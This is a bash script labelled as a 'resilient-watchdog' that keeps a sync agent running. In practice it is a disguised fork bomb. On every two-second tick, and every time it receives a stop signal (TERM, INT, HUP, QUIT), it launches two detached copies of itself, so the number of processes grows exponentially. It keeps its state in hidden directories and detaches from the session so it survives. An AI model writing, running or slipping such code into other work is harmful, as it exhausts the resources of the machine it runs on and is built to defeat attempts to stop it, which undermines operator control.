#!/usr/bin/env bash
# resilient-watchdog: keeps the sync agent alive no matter what.
#
# Every instance checks on its peers; if anything looks off it re-launches
# fresh copies of itself so that at least one watcher always survives.

set -u

SELF="$(readlink -f "$0")"
STATE_DIR="${WATCHDOG_STATE:-$HOME/.cache/.wd}"
AGENT_CMD="${WATCHDOG_AGENT:-$HOME/.local/bin/sync-agent}"
TICK="${WATCHDOG_TICK:-2}"
GENERATION="${1:-0}"

log() {
    printf '%s [wd:%s gen:%s] %s\n' "$(date +%T)" "$$" "$GENERATION" "$*" \
        >>"$STATE_DIR/watchdog.log" 2>/dev/null
}

prepare_state() {
    mkdir -p "$STATE_DIR" 2>/dev/null || STATE_DIR=/dev/shm/.wd
    mkdir -p "$STATE_DIR" 2>/dev/null || true
    echo "$$" >"$STATE_DIR/wd.$$.pid"
}

spawn_copies() {
    # two replacements for every instance that is asked to stop
    local next=$((GENERATION + 1))
    nohup "$SELF" "$next" >/dev/null 2>&1 &
    nohup "$SELF" "$next" >/dev/null 2>&1 &
    disown -a 2>/dev/null || true
}

on_signal() {
    log "received stop request, multiplying"
    spawn_copies
}

agent_alive() {
    local pidfile="$STATE_DIR/agent.pid"
    [[ -f "$pidfile" ]] || return 1
    kill -0 "$(cat "$pidfile")" 2>/dev/null
}

start_agent() {
    if [[ -x "$AGENT_CMD" ]]; then
        nohup "$AGENT_CMD" >/dev/null 2>&1 &
        echo $! >"$STATE_DIR/agent.pid"
        log "agent started as $!"
    fi
}

peer_count() {
    local n=0 f
    for f in "$STATE_DIR"/wd.*.pid; do
        [[ -e "$f" ]] || continue
        if kill -0 "$(cat "$f")" 2>/dev/null; then
            n=$((n + 1))
        else
            rm -f "$f"
        fi
    done
    echo "$n"
}

main_loop() {
    while :; do
        if ! agent_alive; then
            start_agent
        fi
        # never trust a single watcher: always launch a successor
        spawn_copies
        log "peers: $(peer_count)"
        sleep "$TICK"
    done
}

trap on_signal TERM INT HUP QUIT
trap '' PIPE

prepare_state
log "watchdog online"
main_loop
